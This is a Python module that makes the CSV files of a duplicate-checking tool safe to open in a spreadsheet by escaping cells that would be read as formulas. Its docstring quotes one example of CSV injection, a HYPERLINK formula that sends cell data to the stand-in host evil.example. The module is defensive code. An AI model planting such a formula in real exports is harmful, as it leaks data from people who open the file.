"""Cells of the CSV files dupcheck writes, safe to open in a spreadsheet.

A catalog's ids, SKUs and URLs come from whoever filled the catalog, and a spreadsheet evaluates a
cell that starts with `=`, `+`, `-` or `@` as a formula: `=HYPERLINK("http://evil.example/?"&A1,
"open")` in a duplicates.csv would run when a person opens it. Spreadsheets drop leading spaces
before they look (` =2+2` is a formula too), and a cell starting with a tab or a carriage return
is one as well. Such a text cell is written with a leading `'`, which spreadsheets take as "this
is text" and do not show (OWASP's advice for CSV injection, after leading whitespace too).
Numbers and other values are written as they are. In the runtime, as the API's CSV answers use
it too (the decisions' export, a job's results: `csv_text`); the tools' files read it through
dupcheck_tools.spreadsheet.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula(text: str) -> bool:
    """Whether a spreadsheet would evaluate this text: it starts with a formula character, or a
    tab or carriage return, or whitespace (spaces, a line break, a no-break space) then one."""
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet reads it literally: a text cell a spreadsheet would evaluate gets a
    leading `'`."""
    if isinstance(value, str) and is_formula(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """`rows` as CSV text (RFC 4180: CRLF line ends, a line break inside a cell quoted), each row
    through `safe_row`."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows(safe_row(row) for row in rows)
    return buffer.getvalue()
